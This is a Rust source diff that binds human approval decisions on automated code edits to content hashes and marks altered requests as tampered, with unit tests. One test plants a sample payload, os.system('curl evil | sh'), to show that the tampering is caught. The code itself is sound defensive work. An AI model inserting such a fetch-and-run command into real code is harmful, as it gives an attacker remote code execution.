@@ -5,8 +5,14 @@
 //! types: `ApprovedEdit` has private fields and only two constructors, one from an approve
 //! decision that matches the request, one from an auto-approve [`Verdict`] computed by
 //! [`police`].
+//!
+//! A decision applies only to the content that was shown: the request's content must hash to
+//! its approval id, and a decision names the file and the hashes of the pre- and post-image it
+//! was made for. [`ApprovalRequest::verify`] is the one place that checks a request against its
+//! id, and [`verify_decision`] the one place that checks a decision against its request; the
+//! listing ([`ApprovalView::of`]), the decision and the apply step all go through them.
 
-use super::{ApprovalId, EditFacts, PolicyPack, Proposal, risk_score};
+use super::{ApprovalId, EditFacts, PolicyPack, Proposal, risk_score, unified_diff};
 use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
@@ -23,10 +29,61 @@ pub fn approval_id(pack: &str, p: &Proposal) -> ApprovalId {
     ApprovalId::from_hex(digest[..12].iter().map(|b| format!("{b:02x}")).collect())
 }
 
-/// Content hash used to check that a file still has the pre-image an approval was made for.
+/// SHA-256 of a text, lowercase hex.
 pub fn content_sha(text: &str) -> String {
     let d = Sha256::digest(text.as_bytes());
     d.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+/// What a decision is bound to: the file an edit writes and the SHA-256 of its pre- and
+/// post-image.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct EditBinding {
+    pub file_path: String,
+    pub before_sha256: String,
+    pub after_sha256: String,
+}
+
+impl EditBinding {
+    pub fn of(p: &Proposal) -> EditBinding {
+        EditBinding {
+            file_path: p.file_path.clone(),
+            before_sha256: content_sha(&p.before),
+            after_sha256: content_sha(&p.after),
+        }
+    }
+}
+
+/// Why a recorded approval is not trusted: its content, or the decision on it, is not what its
+/// approval id names. Nothing of such an approval is applied.
+#[derive(Debug, Clone, thiserror::Error, PartialEq, Eq)]
+pub enum Tampered {
+    #[error(
+        "approval {id}: the recorded edit of {file} no longer hashes to the approval's id (it hashes to {actual}): it was changed after it was proposed"
+    )]
+    Content {
+        id: String,
+        file: String,
+        actual: String,
+    },
+    #[error(
+        "approval {id}: the request shows {field} {shown:?} but its edit has {actual:?}: it was changed after it was proposed"
+    )]
+    Shown {
+        id: String,
+        field: &'static str,
+        shown: String,
+        actual: String,
+    },
+    #[error(
+        "the decision on approval {id} was made for {field} {decided} but the approval has {actual}: a decision applies only to the content it was made for"
+    )]
+    Decision {
+        id: String,
+        field: &'static str,
+        decided: String,
+        actual: String,
+    },
 }
 
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
@@ -131,7 +188,9 @@ impl Decision {
 }
 
 /// Where an approval is: `pending` waits for a person; `approved`/`rejected` are a person's
-/// decision; `auto_approved` is the pack's rules approving it without one.
+/// decision; `auto_approved` is the pack's rules approving it without one; `tampered`: its
+/// recorded content (or the decision on it) is not what its id names, so it cannot be decided
+/// and is never applied.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
 #[serde(rename_all = "snake_case")]
 pub enum ApprovalStatus {
@@ -139,6 +198,7 @@ pub enum ApprovalStatus {
     Approved,
     Rejected,
     AutoApproved,
+    Tampered,
 }
 
 impl ApprovalStatus {
@@ -148,12 +208,17 @@ impl ApprovalStatus {
             ApprovalStatus::Approved => "approved",
             ApprovalStatus::Rejected => "rejected",
             ApprovalStatus::AutoApproved => "auto_approved",
+            ApprovalStatus::Tampered => "tampered",
         }
     }
 }
 
 /// `state/approvals/<approval_id>.json`. Holds the whole pre-image and post-image so a decision
 /// can be applied later (or after a resume) without asking the proposer again.
+///
+/// Only `proposal` (with `pack`) is trusted, and only after [`ApprovalRequest::verify`]: what
+/// is shown (the diff, the line count) is computed from it. `diff` and `lines_changed` are
+/// kept for the audit DB's columns and older readers.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
 pub struct ApprovalRequest {
     pub approval_id: ApprovalId,
@@ -171,6 +236,37 @@ pub struct ApprovalRequest {
     pub proposal: Proposal,
 }
 
+impl ApprovalRequest {
+    /// Checks that the request's content is what its approval id names, and returns the
+    /// binding a decision on it must carry. The one such check: when approvals store a diff
+    /// and blob ids instead of whole texts, this is the function that changes.
+    pub fn verify(&self) -> Result<EditBinding, Tampered> {
+        let p = &self.proposal;
+        let actual = approval_id(&self.pack, p);
+        if actual != self.approval_id {
+            return Err(Tampered::Content {
+                id: self.approval_id.to_string(),
+                file: p.file_path.clone(),
+                actual: actual.to_string(),
+            });
+        }
+        for (field, shown, actual) in [
+            ("file_path", &self.file_path, &p.file_path),
+            ("symbol", &self.symbol, &p.symbol),
+        ] {
+            if shown != actual {
+                return Err(Tampered::Shown {
+                    id: self.approval_id.to_string(),
+                    field,
+                    shown: shown.clone(),
+                    actual: actual.clone(),
+                });
+            }
+        }
+        Ok(EditBinding::of(p))
+    }
+}
+
 /// `state/approvals/<approval_id>.decision.json`.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
 pub struct ApprovalDecision {
@@ -183,6 +279,75 @@ pub struct ApprovalDecision {
     pub decided_by: String,
     /// Why; recorded in the audit trail (may be empty).
     pub reason: String,
+    /// The file the decided edit writes. Absent in decisions recorded before decisions named
+    /// their content (those are bound by the approval id alone, which hashes the same content).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub file_path: Option<String>,
+    /// SHA-256 (lowercase hex) of the file before the edit, as shown when deciding.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub before_sha256: Option<String>,
+    /// SHA-256 (lowercase hex) of the file after the edit, as shown when deciding.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub after_sha256: Option<String>,
+}
+
+impl ApprovalDecision {
+    /// A decision on the content `bound` names (from [`ApprovalRequest::verify`]).
+    pub fn new(
+        approval_id: ApprovalId,
+        bound: EditBinding,
+        decision: Decision,
+        decided_at: String,
+        decided_by: String,
+        reason: String,
+    ) -> ApprovalDecision {
+        ApprovalDecision {
+            approval_id,
+            decision,
+            decided_at,
+            decided_by,
+            reason,
+            file_path: Some(bound.file_path),
+            before_sha256: Some(bound.before_sha256),
+            after_sha256: Some(bound.after_sha256),
+        }
+    }
+}
+
+/// Checks a decision against the request it decides: the same approval id, a request whose
+/// content is what the id names, and (when the decision names content, as every decision
+/// recorded by this version does) that same content. A decision that names only part of it
+/// was not written by [`ApprovalDecision::new`] and is refused.
+pub fn verify_decision(
+    req: &ApprovalRequest,
+    d: &ApprovalDecision,
+) -> Result<EditBinding, DecisionError> {
+    if d.approval_id != req.approval_id {
+        return Err(DecisionError::WrongApproval {
+            expected: req.approval_id.to_string(),
+            got: d.approval_id.to_string(),
+        });
+    }
+    let bound = req.verify()?;
+    if d.file_path.is_none() && d.before_sha256.is_none() && d.after_sha256.is_none() {
+        return Ok(bound);
+    }
+    let none = || "nothing".to_string();
+    for (field, decided, actual) in [
+        ("file", &d.file_path, &bound.file_path),
+        ("pre-image sha256", &d.before_sha256, &bound.before_sha256),
+        ("post-image sha256", &d.after_sha256, &bound.after_sha256),
+    ] {
+        if decided.as_ref() != Some(actual) {
+            return Err(DecisionError::Tampered(Tampered::Decision {
+                id: req.approval_id.to_string(),
+                field,
+                decided: decided.clone().unwrap_or_else(none),
+                actual: actual.clone(),
+            }));
+        }
+    }
+    Ok(bound)
 }
 
 #[derive(Debug, thiserror::Error, PartialEq, Eq)]
@@ -193,6 +358,8 @@ pub enum DecisionError {
     Rejected(String),
     #[error("approval {0} was not auto-approved by the pack's rules")]
     NotAutoApproved(String),
+    #[error(transparent)]
+    Tampered(#[from] Tampered),
 }
 
 /// An edit that may be applied and committed. See the module docs for why this is a type.
@@ -204,16 +371,12 @@ pub struct ApprovedEdit {
 }
 
 impl ApprovedEdit {
+    /// From a person's approve decision on `req`, checked by [`verify_decision`].
     pub fn from_decision(
         req: &ApprovalRequest,
         d: &ApprovalDecision,
     ) -> Result<ApprovedEdit, DecisionError> {
-        if d.approval_id != req.approval_id {
-            return Err(DecisionError::WrongApproval {
-                expected: req.approval_id.to_string(),
-                got: d.approval_id.to_string(),
-            });
-        }
+        verify_decision(req, d)?;
         if d.decision != Decision::Approve {
             return Err(DecisionError::Rejected(req.approval_id.to_string()));
         }
@@ -232,17 +395,15 @@ impl ApprovedEdit {
         in_allowed_globs: bool,
         tests_available: bool,
     ) -> Result<ApprovedEdit, DecisionError> {
+        req.verify()?;
         let facts = EditFacts::of(&req.proposal);
         match police(pack, in_allowed_globs, &facts, tests_available) {
-            Verdict::AutoApprove { .. }
-                if approval_id(&pack.name, &req.proposal) == req.approval_id =>
-            {
-                Ok(ApprovedEdit {
-                    approval_id: req.approval_id.clone(),
-                    proposal: req.proposal.clone(),
-                    approved_by: format!("policy:{}", pack.name),
-                })
-            }
+            // The pack of the run, not the one the request names.
+            Verdict::AutoApprove { .. } if req.pack == pack.name => Ok(ApprovedEdit {
+                approval_id: req.approval_id.clone(),
+                proposal: req.proposal.clone(),
+                approved_by: format!("policy:{}", pack.name),
+            }),
             _ => Err(DecisionError::NotAutoApproved(req.approval_id.to_string())),
         }
     }
@@ -267,12 +428,15 @@ pub struct ApprovalView {
     pub file_path: String,
     /// The function, class or other symbol the edit touches (may be empty).
     pub symbol: String,
-    /// 0-100: how risky the edit looks (size, kind of code touched, tests available).
+    /// 0-100: how risky the edit looks (size, kind of code touched, tests available),
+    /// computed from the edit; 100 for a `tampered` approval.
     #[schemars(range(max = 100))]
     pub risk_score: u8,
-    /// Why the edit needs a human decision (or why it was auto-approved).
+    /// Why the edit needs a human decision (or why it was auto-approved); for a `tampered`
+    /// approval, what does not match.
     pub reason: String,
-    /// Unified diff of the proposed edit.
+    /// Unified diff of the proposed edit, computed from the content the approval id names;
+    /// empty when that content was changed (`tampered`).
     pub diff: String,
     pub status: ApprovalStatus,
     /// When the edit was proposed (RFC 3339, UTC).
@@ -281,4 +445,232 @@ pub struct ApprovalView {
     pub lines_changed: u32,
     /// The recorded decision; null while pending (and for most auto-approved edits).
     pub decision: Option<ApprovalDecision>,
+}
+
+impl ApprovalView {
+    /// How every surface shows `req` with its recorded decision. The diff and line count are
+    /// computed from the content the id names, and so is the risk score; a request or decision
+    /// that fails the check is `tampered`, with what failed as its reason, risk 100 and no
+    /// diff of the changed content.
+    pub fn of(req: &ApprovalRequest, decision: Option<ApprovalDecision>) -> ApprovalView {
+        let checked = match &decision {
+            Some(d) => verify_decision(req, d).map_err(|e| e.to_string()),
+            None => req.verify().map_err(|e| e.to_string()),
+        };
+        let p = &req.proposal;
+        let (status, reason, diff, lines_changed, risk) = match checked {
+            Err(why) => (ApprovalStatus::Tampered, why, String::new(), 0, 100),
+            Ok(_) => {
+                let facts = EditFacts::of(p);
+                let status = match &decision {
+                    _ if req.auto_approved => ApprovalStatus::AutoApproved,
+                    Some(d) if d.decision == Decision::Approve => ApprovalStatus::Approved,
+                    Some(_) => ApprovalStatus::Rejected,
+                    None => ApprovalStatus::Pending,
+                };
+                (
+                    status,
+                    req.reason.clone(),
+                    unified_diff(&p.file_path, &p.before, &p.after),
+                    facts.lines_changed(),
+                    risk_score(&facts),
+                )
+            }
+        };
+        ApprovalView {
+            approval_id: req.approval_id.to_string(),
+            file_path: p.file_path.clone(),
+            symbol: p.symbol.clone(),
+            risk_score: risk,
+            reason,
+            diff,
+            status,
+            created_at: req.created_at.clone(),
+            lines_changed,
+            decision,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{ProposalSource, RunId};
+
+    fn request() -> ApprovalRequest {
+        let proposal = Proposal {
+            file_path: "pkg/m.py".into(),
+            symbol: "f".into(),
+            before: "def f():\n    return 1\n".into(),
+            after: "def f():\n    return 2\n".into(),
+            source: ProposalSource::Command,
+            major_bump: false,
+        };
+        ApprovalRequest {
+            approval_id: approval_id("lint_fix", &proposal),
+            run_id: RunId::parse("r1").unwrap(),
+            pack: "lint_fix".into(),
+            created_at: "2026-01-01T00:00:00Z".into(),
+            file_path: proposal.file_path.clone(),
+            symbol: proposal.symbol.clone(),
+            risk_score: 40,
+            reason: "risk 40 > max_risk 30".into(),
+            diff: unified_diff(&proposal.file_path, &proposal.before, &proposal.after),
+            lines_changed: 2,
+            auto_approved: false,
+            proposal,
+        }
+    }
+
+    /// A decision as an older version wrote it (or as it reads on disk): no content named.
+    fn approve_by_id(req: &ApprovalRequest) -> ApprovalDecision {
+        serde_json::from_value(serde_json::json!({
+            "approval_id": req.approval_id.as_str(), "decision": "approve",
+            "decided_at": "2026-01-01T00:00:01Z", "decided_by": "alice", "reason": "",
+        }))
+        .unwrap()
+    }
+
+    fn approve_bound(req: &ApprovalRequest) -> ApprovalDecision {
+        ApprovalDecision::new(
+            req.approval_id.clone(),
+            req.verify().unwrap(),
+            Decision::Approve,
+            "2026-01-01T00:00:01Z".into(),
+            "alice".into(),
+            String::new(),
+        )
+    }
+
+    #[test]
+    fn an_intact_request_is_bound_to_its_path_and_content_hashes() {
+        let req = request();
+        let b = req.verify().unwrap();
+        assert_eq!(b.file_path, "pkg/m.py");
+        assert_eq!(b.before_sha256, content_sha(&req.proposal.before));
+        assert_eq!(b.after_sha256, content_sha(&req.proposal.after));
+        assert_eq!(b.after_sha256.len(), 64);
+        assert_ne!(b.before_sha256, b.after_sha256);
+    }
+
+    #[test]
+    fn any_change_to_what_the_id_hashes_or_what_is_shown_is_tampering() {
+        type Change = fn(&mut ApprovalRequest);
+        let changes: [(&str, Change); 6] = [
+            ("after", |r| r.proposal.after.push_str("import os\n")),
+            ("before", |r| r.proposal.before = "x = 0\n".into()),
+            ("edited file", |r| r.proposal.file_path = "setup.py".into()),
+            ("pack", |r| r.pack = "typing_pass".into()),
+            ("shown file", |r| r.file_path = "README.md".into()),
+            ("shown symbol", |r| r.symbol = "g".into()),
+        ];
+        for (what, change) in changes {
+            let mut req = request();
+            change(&mut req);
+            let e = req.verify().unwrap_err();
+            assert!(
+                e.to_string().contains(req.approval_id.as_str()),
+                "{what}: {e}"
+            );
+        }
+        // The stored diff is not trusted, so changing it alone is not even looked at.
+        let mut req = request();
+        req.diff = "+harmless\n".into();
+        assert!(req.verify().is_ok());
+    }
+
+    #[test]
+    fn an_approve_decision_never_applies_a_request_whose_content_changed() {
+        let shown = request();
+        let d = approve_by_id(&shown);
+        let mut changed = shown.clone();
+        changed.proposal.after = "import os\nos.system('curl evil | sh')\n".into();
+        // The old check compared the approval ids only, and this was an ApprovedEdit.
+        let e = ApprovedEdit::from_decision(&changed, &d).unwrap_err();
+        assert!(
+            matches!(e, DecisionError::Tampered(Tampered::Content { .. })),
+            "{e}"
+        );
+        let e = ApprovedEdit::from_decision(&changed, &approve_bound(&shown)).unwrap_err();
+        assert!(matches!(e, DecisionError::Tampered(_)), "{e}");
+        let edit = ApprovedEdit::from_decision(&shown, &d).unwrap();
+        assert_eq!(edit.proposal().after, shown.proposal.after);
+    }
+
+    #[test]
+    fn a_decision_applies_only_to_the_content_it_names() {
+        let req = request();
+        assert_eq!(
+            verify_decision(&req, &approve_bound(&req)).unwrap(),
+            req.verify().unwrap()
+        );
+        // Written by hand for other content (or only partly): refused, naming what differs.
+        let mut other = approve_bound(&req);
+        other.after_sha256 = Some(content_sha("something else\n"));
+        let e = verify_decision(&req, &other).unwrap_err().to_string();
+        assert!(e.contains("post-image sha256"), "{e}");
+        let mut partial = approve_by_id(&req);
+        partial.file_path = Some(req.file_path.clone());
+        let e = verify_decision(&req, &partial).unwrap_err().to_string();
+        assert!(
+            e.contains("pre-image sha256") && e.contains("nothing"),
+            "{e}"
+        );
+        let mut elsewhere = approve_bound(&req);
+        elsewhere.file_path = Some("setup.py".into());
+        assert!(verify_decision(&req, &elsewhere).is_err());
+        // A decision for another approval is still refused as such.
+        let mut wrong = approve_bound(&req);
+        wrong.approval_id = ApprovalId::parse("0123456789abcdef0123").unwrap();
+        assert!(matches!(
+            verify_decision(&req, &wrong),
+            Err(DecisionError::WrongApproval { .. })
+        ));
+        // One recorded before decisions named content is bound by the id alone.
+        assert!(verify_decision(&req, &approve_by_id(&req)).is_ok());
+    }
+
+    #[test]
+    fn decisions_of_older_versions_still_read_and_new_ones_round_trip() {
+        let req = request();
+        let old = approve_by_id(&req);
+        assert_eq!(old.before_sha256, None);
+        let new = approve_bound(&req);
+        let text = serde_json::to_string(&new).unwrap();
+        assert!(text.contains("\"after_sha256\""), "{text}");
+        assert_eq!(
+            serde_json::from_str::<ApprovalDecision>(&text).unwrap(),
+            new
+        );
+        assert!(!serde_json::to_string(&old).unwrap().contains("sha256"));
+    }
+
+    #[test]
+    fn the_view_shows_the_diff_of_the_hashed_content_or_tampered() {
+        let mut req = request();
+        req.diff = "+harmless\n".into();
+        req.lines_changed = 0;
+        let v = ApprovalView::of(&req, None);
+        assert_eq!(v.status, ApprovalStatus::Pending);
+        assert!(v.diff.contains("+    return 2"), "{}", v.diff);
+        assert_eq!(v.lines_changed, 2);
+
+        req.proposal.after = "import os\n".into();
+        let v = ApprovalView::of(&req, None);
+        assert_eq!(v.status, ApprovalStatus::Tampered);
+        assert_eq!(v.diff, "");
+        assert!(
+            v.reason.contains("changed after it was proposed"),
+            "{}",
+            v.reason
+        );
+
+        let req = request();
+        let mut forged = approve_bound(&req);
+        forged.before_sha256 = Some(content_sha(""));
+        let v = ApprovalView::of(&req, Some(forged));
+        assert_eq!(v.status, ApprovalStatus::Tampered);
+        let v = ApprovalView::of(&req, Some(approve_bound(&req)));
+        assert_eq!(v.status, ApprovalStatus::Approved);
+    }
 }
